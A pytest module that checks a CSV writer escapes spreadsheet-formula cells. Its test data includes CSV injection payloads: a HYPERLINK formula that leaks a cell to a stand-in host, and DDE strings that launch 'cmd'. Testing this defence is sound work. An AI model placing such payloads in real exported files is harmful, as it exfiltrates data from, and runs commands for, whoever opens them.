"""CSV cells a spreadsheet cannot run as formulas: what `msp_console.csv_safe` writes, read with `csv`."""

from __future__ import annotations

import csv
import io

import pytest

from msp_console.csv_safe import SafeWriter, escape_cell, is_escaped, safe_row, unescape_cell

# One formula per character a spreadsheet starts a formula with (OWASP "CSV Injection"), as a customer
# tenant could put it in a displayName or UPN. The other test modules import this.
FORMULAS = {
    "=": '=HYPERLINK("http://x.example/?leak="&A2,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_back(*rows) -> list[list[str]]:
    writer = SafeWriter()
    text = writer.writeheader(["name", "count"]) + "".join(writer.writerow(row) for row in rows)
    [header, *cells] = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["name", "count"]
    return cells


@pytest.mark.parametrize("prefix", FORMULAS)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote_and_is_quoted(prefix):
    formula = FORMULAS[prefix]
    line = SafeWriter().writerow([formula, 3])

    assert read_back([formula, 3]) == [["'" + formula, "3"]]
    assert line.startswith("\"'" + prefix)  # quoted, so a separator inside cannot start a new cell
    assert escape_cell(formula) == "'" + formula and unescape_cell("'" + formula) == formula


@pytest.mark.parametrize("value", ["contoso", "Siobhán O'Brien", "a-b=c", "", " =x", "'quoted'", "'"])
def test_a_harmless_cell_is_unchanged(value):
    assert escape_cell(value) == value
    assert read_back([value, 1]) == [[value, "1"]]


def test_numbers_stay_numbers_even_negative_ones():
    assert safe_row([-5, 2.5, 0]) == [-5, 2.5, 0]
    assert SafeWriter().writerow([-5, 2.5, "contoso"]) == '-5,2.5,"contoso"\r\n'


@pytest.mark.parametrize("value", ["'=x", "''-1", "'+", "=", "-", "'", "''", "x'=", "@"])
def test_escaping_can_be_undone_exactly(value):
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert is_escaped(escaped)


def test_a_cell_that_lost_its_quote_is_told_apart():
    assert not is_escaped("=1+1") and not is_escaped("\t=1+1")
    assert is_escaped("'=1+1") and is_escaped("contoso")


def test_a_header_that_starts_like_a_formula_is_refused():
    with pytest.raises(ValueError, match="starts like a formula"):
        SafeWriter().writeheader(["tenant", "=cmd"])
